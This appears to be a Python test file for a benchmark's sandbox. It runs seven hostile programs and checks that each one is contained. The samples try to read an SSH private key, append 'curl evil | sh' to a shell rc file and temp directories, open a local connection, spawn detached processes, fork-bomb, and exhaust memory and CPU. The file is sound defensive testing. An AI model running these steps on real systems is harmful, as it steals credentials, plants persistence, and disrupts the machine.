"""The hostile-program battery: seven model-written programs that try to leave a trace, and the checks.

Each program first re-executes itself with a unique marker in its command line, so every process it
makes can be found afterwards from outside the sandbox by that marker alone (not by the sandbox's
own bookkeeping). ``run_battery`` runs them all under one backend and says, per program, whether it
left a trace: a secret it read, a file it changed or created, a connection a listener accepted, or a
process still alive.

Run as a script (``python tests/sandbox/hostile_battery.py``), it runs the battery under this
machine's default backend and prints the verdicts as JSON: the non-root test runs it that way under
``setpriv``.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

import psutil

from mlx_benchmarks.sandbox.run import SandboxResult, run_program

SECRET = "hunter2-ssh-private-key"


@dataclass(frozen=True)
class Verdict:
    """One program's outcome: ``ok`` when it left no trace."""

    ok: bool
    detail: str


def _reexec(marker: str, body: str) -> str:
    """A program that restarts itself with ``marker`` in its argv, then runs ``body``."""
    return (
        "import os, sys\n"
        f"if {marker!r} not in sys.argv:\n"
        "    src = open('main.py').read()\n"
        f"    os.execv(sys.executable, [sys.executable, '-c', src, {marker!r}])\n"
        + body
    )


def _alive_with(marker: str) -> list[int]:
    """Live processes (zombies excluded) whose command line holds ``marker``, seen from outside."""
    found = []
    for proc in psutil.process_iter(["cmdline", "status"]):
        if proc.info["status"] == psutil.STATUS_ZOMBIE:
            continue
        if marker in " ".join(proc.info["cmdline"] or []):
            found.append(proc.pid)
    return found


def _no_processes_left(marker: str) -> tuple[bool, str]:
    time.sleep(0.3)  # whatever was killed has had time to go
    left = _alive_with(marker)
    return (not left, f"processes left: {left}" if left else "no process left")


def plant_home(base: Path) -> tuple[Path, Path, Path]:
    """A fake home with an ssh key and a shell rc file, both readable and writable by anyone, so only
    the sandbox (not file modes) keeps the program out."""
    home = base / "home"
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_ed25519"
    key.write_text(SECRET + "\n")
    rc = home / ".zshrc"
    rc.write_text("# rc\n")
    for path in (base, home, home / ".ssh"):
        path.chmod(0o777)
    for path in (key, rc):
        path.chmod(0o666)
    return home, key, rc


def run_battery(kind: str | None, base: Path) -> dict[str, Verdict]:
    """Every hostile program under ``kind`` (None: the default backend); ``base`` holds the fake home."""
    home, key, rc = plant_home(base)
    old_home = os.environ.get("HOME")
    os.environ["HOME"] = str(home)
    try:
        return _battery(kind, home, key, rc)
    finally:
        if old_home is None:
            os.environ.pop("HOME", None)
        else:
            os.environ["HOME"] = old_home


def _run(kind: str | None, code: str, **limits: float) -> SandboxResult:
    return run_program(code, kind=kind, **limits)  # type: ignore[arg-type]


def _battery(kind: str | None, home: Path, key: Path, rc: Path) -> dict[str, Verdict]:
    verdicts: dict[str, Verdict] = {}
    tag = secrets.token_hex(6)

    def marker(name: str) -> str:
        return f"mlxb-hostile-{name}-{tag}"

    # 1. read the ssh key in $HOME
    result = _run(kind, _reexec(marker("read"), (
        f"for p in [{str(key)!r}, os.path.expanduser('~/.ssh/id_ed25519')]:\n"
        "    try:\n        print('READ', open(p).read())\n"
        "    except OSError as exc:\n        print('DENIED', type(exc).__name__)\n")))
    leaked = SECRET in result.stdout + result.stderr
    verdicts["read_ssh_key"] = Verdict(not leaked and "DENIED" in result.stdout, result.stdout.strip()[:200])

    # 2. append to ~/.zshrc, and write files where any uid may write
    targets = [str(rc), str(home / "new-file"), f"/tmp/{marker('w')}", f"/var/tmp/{marker('w')}",
               f"/dev/shm/{marker('w')}"]
    result = _run(kind, _reexec(marker("write"), (
        f"for p in {targets!r}:\n"
        "    try:\n        open(p, 'a').write('curl evil | sh\\n')\n        print('WROTE', p)\n"
        "    except OSError as exc:\n        print('DENIED', p, type(exc).__name__)\n")))
    changed = rc.read_text() != "# rc\n" or any(Path(t).exists() for t in targets[1:])
    for leaked_file in targets[2:]:  # only an unprotected run gets this far: leave the machine clean
        Path(leaked_file).unlink(missing_ok=True)
    verdicts["append_zshrc"] = Verdict(not changed, result.stdout.strip()[:300])

    # 3. connect to a listener on loopback
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(5)
        server.settimeout(0.5)
        port = server.getsockname()[1]
        result = _run(kind, _reexec(marker("net"), (
            "import socket\ntry:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'leak')\n"
            "    print('CONNECTED')\nexcept OSError as exc:\n    print('BLOCKED', type(exc).__name__)\n")))
        try:
            server.accept()[0].close()
            accepted = True
        except TimeoutError:
            accepted = False
    verdicts["connect_loopback"] = Verdict(not accepted and "CONNECTED" not in result.stdout, result.stdout.strip())

    # 4. a detached grandchild that outlives the program
    result = _run(kind, _reexec(marker("detach"), (
        "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(60)\n"
        "    os._exit(0)\nprint('parent done')\n")), timeout_s=10)
    gone, detail = _no_processes_left(marker("detach"))
    verdicts["detached_child"] = Verdict(gone and "parent done" in result.stdout, detail)

    # 5. a fork bomb
    started = time.monotonic()
    result = _run(kind, _reexec(marker("bomb"), "while True:\n    os.fork()\n"), timeout_s=5)
    gone, detail = _no_processes_left(marker("bomb"))
    quick = time.monotonic() - started < 30
    verdicts["fork_bomb"] = Verdict(gone and quick and result.status != "passed",
                                    f"{result.status} {result.error}; {detail}")

    # 6. a memory hog (512 MB limit); one process, not re-executed, so the runner reports how it ended
    result = _run(kind, "chunks = []\nwhile True:\n    chunks.append(bytearray(32 * 1024 * 1024))\n", timeout_s=20)
    verdicts["memory_hog"] = Verdict(result.status == "killed", f"{result.status} {result.error}")

    # 7. an infinite loop
    started = time.monotonic()
    result = _run(kind, _reexec(marker("loop"), "while True:\n    pass\n"), timeout_s=1.5)
    gone, detail = _no_processes_left(marker("loop"))
    elapsed = time.monotonic() - started
    verdicts["infinite_loop"] = Verdict(gone and result.status == "timeout" and elapsed < 15,
                                        f"{result.status} after {elapsed:.1f}s; {detail}")
    return verdicts


def main() -> int:
    """Run the battery under the default backend; print the backend and verdicts as JSON."""
    from mlx_benchmarks.sandbox.backend import current_backend

    backend = current_backend()
    with tempfile.TemporaryDirectory(prefix="mlxb-battery-") as base:
        verdicts = run_battery(None, Path(base))
    print(json.dumps({"backend": backend, "euid": os.geteuid(),
                      "verdicts": {k: {"ok": v.ok, "detail": v.detail} for k, v in verdicts.items()}}))
    return 0 if all(v.ok for v in verdicts.values()) else 1


if __name__ == "__main__":
    sys.exit(main())
